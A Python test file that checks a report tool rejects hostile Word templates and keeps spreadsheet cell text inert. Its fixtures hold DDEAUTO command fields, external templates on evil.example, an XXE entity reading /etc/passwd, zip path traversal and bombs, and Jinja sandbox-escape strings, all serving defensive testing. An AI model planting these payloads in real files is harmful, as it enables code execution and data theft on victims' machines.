"""Files from outside: each hostile one is refused in words, with the remedy; cells never become instructions."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree
from support.office import needs_validator, validate

from perfmon_xl import app
from perfmon_xl.domain.errors import UserError
from perfmon_xl.domain.figures import figures_of
from perfmon_xl.domain.model import Monitoring
from perfmon_xl.domain.target import read_target
from perfmon_xl.ooxml.zipping import rewritten
from perfmon_xl.policy import get
from perfmon_xl.report import sandbox_process
from perfmon_xl.report.make_report import write_report
from perfmon_xl.report.template.compiled import compile_template, w
from perfmon_xl.report.template.package import checked_package
from perfmon_xl.system.files import read_package
from perfmon_xl.system.resources import folder

TEMPLATE = (folder("report_templates") / "monitoring_report.docx").read_bytes()
DOCUMENT, RELS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def part(name: str, package: bytes = TEMPLATE) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return archive.read(name)


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """模板加上一条关系。"""
    one = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return rewritten(TEMPLATE, {RELS: part(RELS).replace(b"</Relationships>", one.encode())})


def with_body(xml: str) -> bytes:
    """模板正文最前面加上一段 XML。"""
    return rewritten(TEMPLATE, {DOCUMENT: part(DOCUMENT).replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)})


def with_text(text: str) -> bytes:
    return with_body(f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>')


def field(*codes: str) -> bytes:
    """一个域，代码拆成几截。"""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return with_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def prolog(before: bytes, encoding: str = "utf-8") -> bytes:
    """settings.xml 前面加上 before。"""
    text = part("word/settings.xml").decode("utf-8").partition("?>")[2]
    head = f'<?xml version="1.0" encoding="{encoding}"?>'.encode()
    data = head + before + text.encode("utf-8")
    return rewritten(
        TEMPLATE,
        {"word/settings.xml": data.decode("utf-8").encode(encoding) if encoding != "UTF-7" else data},
    )


def zipped(change: Callable[[zipfile.ZipFile], None]) -> bytes:
    """模板的副本，再往压缩包里放东西。"""
    out = io.BytesIO(TEMPLATE)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        change(archive)
    return out.getvalue()


def header_at(where: str) -> bytes:
    """一个不在老地方的页眉，里面有会运行命令的域。"""
    field = '<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    types = part(TYPES).replace(
        b"</Types>", f'<Override PartName="/{where}" ContentType="{kind}"/></Types>'.encode()
    )
    relation = f'<Relationship Id="rIdH" Type="{OFFICE}/header" Target="/{where}"/></Relationships>'
    return rewritten(
        TEMPLATE,
        {
            TYPES: types,
            RELS: part(RELS).replace(b"</Relationships>", relation.encode()),
            where: f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{field}</w:hdr>'.encode(),
        },
    )


DTD = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
CORPUS: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "vba": (lambda: rewritten(TEMPLATE, {"word/vbaProject.bin": b"x"}), "带有宏", "不带宏"),
    "docm": (
        lambda: rewritten(
            TEMPLATE,
            {
                TYPES: part(TYPES).replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            },
        ),
        "带有宏",
        "另存为",
    ),
    "dotx": (
        lambda: rewritten(
            TEMPLATE, {TYPES: part(TYPES).replace(b"document.main+xml", b"template.main+xml")}
        ),
        "dotx",
        "另存为",
    ),
    "activex": (lambda: rewritten(TEMPLATE, {"word/activeX/activeX1.xml": b"<x/>"}), "带有控件", "删掉"),
    "ole": (lambda: rewritten(TEMPLATE, {"word/embeddings/oleObject1.bin": b"x"}), "嵌入或链接的对象", "删掉"),
    "attached template": (
        lambda: related("attachedTemplate", "http://evil.example/t.dotm"),
        r"套用了文件以外的模板（http://evil.example/t.dotm）",
        "Normal.dotm",
    ),
    "image by address": (lambda: related("image", "http://evil.example/a.png"), "图片放在文件以外", "插入图片"),
    "unc image": (lambda: related("image", r"\\evil\share\a.png"), "图片放在文件以外", "插入图片"),
    "unc without a mode": (lambda: related("image", r"\\evil\share\a.png", ""), "图片放在文件以外", "插入"),
    "linked object": (lambda: related("oleObject", "file:///c:/a.xls"), "嵌入或链接的对象", "粘贴"),
    "embedded object": (lambda: related("oleObject", "embeddings/a.docx", ""), "嵌入或链接的对象", "粘贴"),
    "altChunk": (lambda: related("aFChunk", "afchunk.htm", ""), "altChunk", "另存为"),
    "subdocument": (lambda: related("subDocument", "b.docx"), "子文档", "并进来"),
    "mail merge": (lambda: related("mailMergeSource", "file:///c:/a.xlsx"), "邮件合并", "停用"),
    "unknown external": (lambda: related("video", "http://evil.example/v"), "文件以外的内容", "断开"),
    "link to a program": (lambda: related("hyperlink", "file:///c:/windows/calc.exe"), "calc.exe", "链接"),
    "script link": (lambda: related("hyperlink", "javascript:alert(1)"), "javascript", "链接"),
    "dde": (lambda: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "域 DDEAUTO", r"Alt\+F9"),
    "dde in pieces": (lambda: field(" DD", "EA", 'UTO cmd "x"'), "域 DDEAUTO", r"Alt\+F9"),
    "include text": (lambda: field('INCLUDETEXT "c:\\\\a.docx"'), "域 INCLUDETEXT", r"Alt\+F9"),
    "simple field": (
        lambda: with_body('<w:p><w:fldSimple w:instr=" IncludePicture &quot;http://e/a.png&quot; "/></w:p>'),
        "域 INCLUDEPICTURE",
        r"Alt\+F9",
    ),
    "tag in a field": (lambda: field('HYPERLINK "{{ 项目.名称 }}"'), "标签写在了域代码里", r"Alt\+F9"),
    "code put together by a comment": (lambda: field("{#", "#}DDEAUTO cmd"), "标签写在了域代码里", r"Alt\+F9"),
    "one brace in a code": (lambda: field("REF a}"), "标签写在了域代码里", r"Alt\+F9"),
    "full-width name": (lambda: field("ＤＤＥ cmd"), "域 DDE", r"Alt\+F9"),
    "soft hyphen in the name": (lambda: field("INCLUDE\u00adTEXT a"), "域 INCLUDETEXT", r"Alt\+F9"),
    "deleted in a tracked change": (
        lambda: with_body(
            '<w:p><w:del w:id="1" w:author="a"><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>'
        ),
        "域 DDEAUTO",
        r"Alt\+F9",
    ),
    "name from another field": (
        lambda: with_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:instrText>REF a</w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "别的域拼出来",
        r"Alt\+F9",
    ),
    "field of another namespace": (
        lambda: with_body('<w:p><x:fldSimple xmlns:x="urn:x" x:instr="DDE cmd"/></w:p>'),
        "域 DDE",
        r"Alt\+F9",
    ),
    "link field to a file": (lambda: field(' HYPERLINK "file:///c:/a.exe" '), "a.exe", "链接"),
    "link field to a share": (lambda: field(r' HYPERLINK "\\\\evil\\s" \o "x" '), "链接", "链接"),
    "link field to a protocol": (lambda: field("HYPERLINK ms-word:ofe%7Cu%7Cx"), "ms-word", "链接"),
    "vml link": (
        lambda: with_body('<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="search-ms:x"/></w:pict></w:r></w:p>'),
        "search-ms",
        "链接",
    ),
    "vml picture": (
        lambda: with_body(
            '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="//evil/a.png"/></w:pict></w:r></w:p>'
        ),
        "文件以外的内容",
        "插入图片",
    ),
    "shape with a macro": (
        lambda: with_body('<w:p><w:r><x:sp xmlns:x="urn:x" macro="[0]!a"/></w:r></w:p>'),
        "宏",
        "删掉",
    ),
    "header in another folder": (lambda: header_at("custom/h.xml"), "域 DDEAUTO", r"Alt\+F9"),
    "header in upper case": (lambda: header_at("WORD/HEADER9.XML"), "域 DDEAUTO", r"Alt\+F9"),
    "relations in upper case": (
        lambda: rewritten(
            TEMPLATE,
            {
                "word/_rels/settings.xml.RELS": (
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    f'<Relationship Id="a" Type="{OFFICE}/attachedTemplate" Target="http://e/x.dotm" TargetMode="EXTERNAL"/>'
                    "</Relationships>"
                ).encode()
            },
        ),
        "套用了文件以外的模板",
        "Normal.dotm",
    ),
    "a program inside": (lambda: rewritten(TEMPLATE, {"word/media/a.lnk": b"L"}), "用不着的内容", "新建"),
    "customised ribbon": (lambda: related("extensibility", "../customUI/customUI.xml", ""), "用不着的内容", "新建"),
    "document embedded as a workbook": (lambda: related("package", "embeddings/a.xlsx", ""), "缺少一部分", "删掉"),
    "dtd": (lambda: prolog(DTD), "settings.xml 带有外部定义", "来源"),
    "dtd after a comment": (lambda: prolog(b"<!--" + b"x" * 5000 + b"-->" + DTD), "外部定义", "来源"),
    "dtd far away": (lambda: prolog(b"<!--" + b"x" * 70_000 + b"-->" + DTD), "开头不正常", "来源"),
    "dtd in utf-16": (lambda: prolog(DTD, "utf-16"), "外部定义", "来源"),
    "dtd in utf-7": (lambda: prolog(b"+ADwAIQ-DOCTYPE a+AD4-", "UTF-7"), "开头不正常", "来源"),
    "path": (lambda: rewritten(TEMPLATE, {"../evil.txt": b"x"}), "不正常的路径", "来源"),
    "windows path": (lambda: rewritten(TEMPLATE, {"c:\\evil.txt": b"x"}), "不正常的路径", "来源"),
    "absolute path": (lambda: rewritten(TEMPLATE, {"/etc/evil": b"x"}), "不正常的路径", "来源"),
    "twice": (lambda: zipped(lambda z: z.writestr("WORD/Document.xml", b"<x/>")), "重复的部分", "另存"),
    "bomb": (lambda: zipped(lambda z: z.writestr("word/a.xml", b" " * 30_000_000)), "大得不正常", "来源"),
    "many": (
        lambda: zipped(lambda z: [z.writestr(f"x/{n}", b"") for n in range(4100)] and None),
        "大得不正常",
        "来源",
    ),
    "odd compression": (
        lambda: zipped(lambda z: z.writestr("x.xml", b"<x/>", zipfile.ZIP_LZMA)),
        "压缩方式",
        "另存为 .docx",
    ),
    "cut off": (lambda: TEMPLATE[:-2000], "不完整或已损坏", "重新取得"),
    "password": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        "打开密码",
        "Word 中取消密码",
    ),
    "broken rels": (lambda: rewritten(TEMPLATE, {RELS: b"<a"}), "已损坏", "修复"),
}  # fmt: skip


@pytest.mark.parametrize("name", CORPUS)
def test_a_hostile_template_is_refused_in_words(name: str, tmp_path: Path) -> None:
    make, says, hint = CORPUS[name]
    path = tmp_path / "模板.docx"
    path.write_bytes(make())
    with pytest.raises(UserError, match=says) as caught:
        checked_package(path)
    assert re.search(hint, caught.value.hint)
    assert "模板.docx" in caught.value.message


@pytest.mark.slow
def test_the_template_of_the_program_and_harmless_links_pass(tmp_path: Path) -> None:
    for number, data in enumerate(
        (TEMPLATE, related("hyperlink", "https://www.gov.cn/"), field(" PAGE "), field(' REF 标签 "x" '))
    ):
        path = tmp_path / f"{number}.docx"
        path.write_bytes(data)
        assert checked_package(path) == data


# --- what a template may say ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("{{ 项目.名称.__class__ }}", "没有“名称.__class__”这个名称"),
        ("{{ ''.__class__.__mro__ }}", "没有“__class__”这个名称"),
        ("{{ 图.资金.charts }}", "没有“资金.charts”这个名称"),
        ("{{ 合并.__globals__ }}", "合并 不是一个值"),
        ("{{ cycler.__init__ }}", "没有“cycler”"),
        ("{{ range(10) }}", "只能用 合并"),
        ("{{ 项目.名称.upper() }}", "只能用 合并"),
        ("{{ 项目|attr('名称') }}", "不能用过滤器“attr”"),
        ("{{ '%999999999d' % 1 }}", "不能用百分号"),
        ("{{ 'a' * 9999999999 }}", "不能用乘号"),
        ("{% include '/etc/passwd' %}", "不能用{% include %}"),
        ("{% macro a() %}{% endmacro %}", "不能用{% macro %}"),
        ("{{ 项目 }}", "“项目”是一组名称"),
        ("{{ 进展 }}", "“进展”是多项"),
        ("{{p 项目.名称 }}", "不在文字里"),
        ("{% for 行 in 表4 %}{{ 行.完成 }}{% endfor %}", "没有“行.完成”这个名称"),
        ("{% for 行 in 表4 if 行.好 %}{% endfor %}", "没有“行.好”这个名称"),
        ("{{ 项目.名称 ", "花括号没有配成对"),
        ("{{ 项目..名称 }}", "写法不对"),
    ],
)
def test_a_template_may_say_only_what_is_offered(text: str, says: str) -> None:
    shown = text.replace("<", "&lt;")
    with pytest.raises(UserError) as caught:
        compile_template("模板", with_text(shown))
    assert says in caught.value.message and "开头部分" in caught.value.message and caught.value.hint


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [
        "{{ 项目.依据 | default('无') }}",
        "{{ 进展|length }}",
        "{% for 行 in 表4[:2] %}{{ loop.index }}{{ 行.完成率 }}{% endfor %}",
        "{{ 表4[0].实际值 }}{{ (表4|first).实际值 }}",
        "{% set 首 = 表4|first %}{{ 首.实际值 }}",
        "{{ '甲' if 资金.执行率 == '—' else '乙' }}",
        "{{ 项目.背景|join('；') }}",
    ],
)
def test_what_is_offered_works(text: str, example: Monitoring, tmp_path: Path) -> None:
    path = tmp_path / "自己的.docx"
    path.write_bytes(with_text(text))
    assert write_report(figures_of(example, get()), template=str(path), pages="none").startswith(b"PK")


def test_a_tag_in_the_alternative_text_is_refused() -> None:
    shape = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        'wordprocessingDrawing"><wp:docPr id="1" name="a" descr="{{ 项目.名称 }}"/></wp:inline></w:drawing></w:r></w:p>'
    )
    with pytest.raises(UserError, match="替代文字"):
        compile_template("模板", with_body(shape))


def test_everything_wrong_is_said_at_once_with_its_place() -> None:
    data = with_text("{{ 项目.名秤 }}")
    document = part(DOCUMENT, data).replace("{{ 行.是否跟踪 }}".encode(), "{{ 行.跟踪 }}".encode())
    with pytest.raises(UserError) as caught:
        compile_template("模板", rewritten(data, {DOCUMENT: document}))
    message = caught.value.message
    assert "有 2 处要改" in message
    assert "1. 开头部分“{{ 项目.名秤 }}”一段：没有“项目.名秤”这个名称。是不是“项目.名称”？" in message
    assert "第 3 个表格第 3 行第 8 格" in message and "README" in caught.value.hint


# --- a template of one's own ------------------------------------------------------------------------


@pytest.fixture
def own(tmp_path: Path) -> Path:
    """自己的模板，前面多一段。"""
    path = tmp_path / "我的 模板.docx"
    path.write_bytes(with_text("本单位的报告：{{ 项目.名称 }}"))
    return path


@needs_validator
def test_report_takes_a_template_of_ones_own(own: Path, demo_book: Path, tmp_path: Path) -> None:
    made = app.report(demo_book, tmp_path / "r.docx", template=str(own), draft=True, pages="estimate")
    told = "".join(etree.fromstring(part(DOCUMENT, made.path.read_bytes())).itertext())
    assert "本单位的报告：2023年司法局法律援助经费项目" in told
    assert validate(made.path) == []


@pytest.mark.slow
def test_the_confined_report_is_the_same_report(example: Monitoring, tmp_path: Path) -> None:
    path = tmp_path / "monitoring_report.docx"  # the record names the template
    path.write_bytes(TEMPLATE)
    same = write_report(figures_of(example, get()), template=str(path), pages="estimate")
    assert same == write_report(figures_of(example, get()), pages="estimate")


@pytest.mark.slow
def test_a_wrong_template_is_told_before_the_errors_of_the_workbook(own: Path, demo_book: Path) -> None:
    own.write_bytes(with_text("{{ 项目.名秤 }}"))
    with pytest.raises(UserError, match=r"没有“项目\.名秤”"):
        app.report(demo_book, template=str(own), pages="none")


@pytest.mark.parametrize("name", ["没有的", "../monitoring_report", "没有.docx", "旧.dotm"])
def test_a_template_that_is_not_there(name: str, example: Monitoring) -> None:
    with pytest.raises(UserError) as caught:
        write_report(figures_of(example, get()), template=name)
    assert caught.value.hint


@pytest.mark.slow
def test_a_template_that_never_ends_is_stopped(
    example: Monitoring, own: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    loops = "".join(f"{{% for 行{n} in 表4 %}}" for n in range(12)) + "x" + "{% endfor %}" * 12
    own.write_bytes(with_text(loops))
    monkeypatch.setattr(sandbox_process, "CPU_SECONDS", 2)
    monkeypatch.setattr(sandbox_process, "SECONDS", 10)
    with pytest.raises(UserError, match="时间或内存超过了限度"):
        write_report(figures_of(example, get()), template=str(own), pages="none")


@pytest.mark.slow
def test_a_template_that_swells_is_stopped(example: Monitoring, own: Path) -> None:
    doubling = "{% set 字 = '一二三四五六七八' %}" + "{% set 字 = 字 ~ 字 %}" * 34 + "{{ 字 }}"
    own.write_bytes(with_text(doubling))
    with pytest.raises(UserError, match="时间或内存超过了限度"):
        write_report(figures_of(example, get()), template=str(own), pages="none")


@pytest.mark.skipif(sys.platform == "win32", reason="no resource module")
def test_a_confined_process_writes_no_file(tmp_path: Path) -> None:
    path = tmp_path / "x"
    code = (
        "import signal; signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "from perfmon_xl.report.sandbox_process import limit\n"
        f"limit(5, 2 << 30); open({str(path)!r}, 'wb', 0).write(b'x')"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert "File too large" in done.stderr and path.read_bytes() == b""


# --- cells ------------------------------------------------------------------------------------------

CELLS = [
    "{{ 7*7 }}",
    "{% for 甲 in 表4 %}",
    '=HYPERLINK("http://evil.example")',
    '<w:fldSimple w:instr="DDEAUTO cmd"/>',
    "&lt;w:p&gt; &amp; &#65;",
    "_x0041_",
    'HYPERLINK "http://evil.example"',
    "{ DDEAUTO cmd }",
    "]]><!-- -->",
    '"\' onclick="x"',
    "{_{ x }_}",
]


@needs_validator
def test_text_from_cells_stays_text(example: Monitoring, tmp_path: Path) -> None:
    rows = tuple(
        replace(example.compared[1], name=text, actual=read_target("60件"), reason=text) for text in CELLS
    )
    source = replace(example.funding[0], source=CELLS[3])
    monitoring = replace(
        example,
        project=replace(example.project, name=CELLS[2], background="\n".join(CELLS)),
        compared=rows,
        funding=(source,),
    )
    path = tmp_path / "r.docx"
    path.write_bytes(write_report(figures_of(monitoring, get()), pages="estimate"))
    root = etree.fromstring(part(DOCUMENT, path.read_bytes()))
    paragraphs = ["".join(t.text or "" for t in p.iter(w("t"))) for p in root.iter(w("p"))]
    for text in CELLS:
        assert text in paragraphs
    codes = [(e.text or "").split()[0] for e in root.iter(w("instrText"))]
    assert set(codes) <= {"TOC", "PAGEREF"}
    assert not list(root.iter(w("fldSimple")))
    assert b"External" not in part(RELS, path.read_bytes())
    assert validate(path) == []


@needs_validator
@pytest.mark.parametrize("cells", [CELLS[:6], CELLS[6:]])  # a chart shows the seven that matter most
def test_text_from_cells_stays_text_in_charts(cells: list[str], example: Monitoring, tmp_path: Path) -> None:
    one = replace(example.compared[1], actual=read_target("60件"))
    rows = tuple(replace(one, name=text, reason=text) for text in cells)
    path = tmp_path / "r.docx"
    path.write_bytes(write_report(figures_of(replace(example, compared=rows), get()), pages="none"))
    with zipfile.ZipFile(path) as package:
        charts = [n for n in package.namelist() if n.startswith("word/charts/chart")]
        drawn = [c for n in charts for c in etree.fromstring(package.read(n)).itertext()]
    for text in cells:
        assert any(c.startswith(text) for c in drawn), (text, drawn)
    assert validate(path) == []


@pytest.mark.parametrize("bad", ["\x00", "\x0b", "\x1b", "\ufffe", "\uf8f0资金\uf8f2"])
def test_control_characters_and_marks_are_refused_with_their_cell(bad: str, example: Monitoring) -> None:
    rows = (replace(example.compared[0], name=f"甲{bad}"),)
    with pytest.raises(UserError, match="印不出来的字符"):
        write_report(figures_of(replace(example, compared=rows), get()), pages="none")


# --- workbooks and reports that are only read -------------------------------------------------------


def test_a_workbook_keeps_its_macros_and_links(demo_book: Path) -> None:
    """自己的工作簿带着宏和外部链接也照读照写，一个字节不动：程序不运行、不跟随。"""
    extra = {
        "xl/vbaProject.bin": b"\xd0\xcf macro",
        "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": (
            f'<Relationships><Relationship Id="rId1" Type="{OFFICE}/externalLinkPath"'
            ' Target="file:///c:/b.xlsx" TargetMode="External"/></Relationships>'
        ).encode(),
    }
    demo_book.write_bytes(rewritten(demo_book.read_bytes(), extra))
    app.fill(demo_book)
    for name, data in extra.items():
        assert part(name, demo_book.read_bytes()) == data


@pytest.mark.parametrize(
    "name", ["dtd", "dtd in utf-16", "dtd in utf-7", "bomb", "path", "twice", "password"]
)
def test_a_hostile_report_is_not_imported(name: str, tmp_path: Path) -> None:
    path = tmp_path / "报告.docx"
    path.write_bytes(CORPUS[name][0]())
    with pytest.raises(UserError, match=CORPUS[name][1].replace("settings.xml ", "")):
        app.import_to_book(path, tmp_path / "b.xlsx")
    assert not (tmp_path / "b.xlsx").exists()


def test_a_file_that_is_no_file_is_not_read(tmp_path: Path) -> None:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no pipes here")
    os.mkfifo(tmp_path / "管道.docx")
    with pytest.raises(UserError, match="不是普通的文件"):
        read_package(tmp_path / "管道.docx", ".docx")


@pytest.mark.parametrize(
    "code",
    ["PAGE", " NUMPAGES ", "TOC \\o &quot;1-2&quot; \\h", "REF a \\h", "SEQ 图 \\* ARABIC", "= 1+1", 'HYPERLINK "https://a.cn/b"',
     'HYPERLINK \\l "_Toc1"', "date \\@ &quot;yyyy年M月d日&quot;"],
)  # fmt: skip
def test_fields_that_number_and_refer_are_let_through(code: str, tmp_path: Path) -> None:
    path = tmp_path / "模板.docx"
    path.write_bytes(field(code))
    assert checked_package(path) == path.read_bytes()
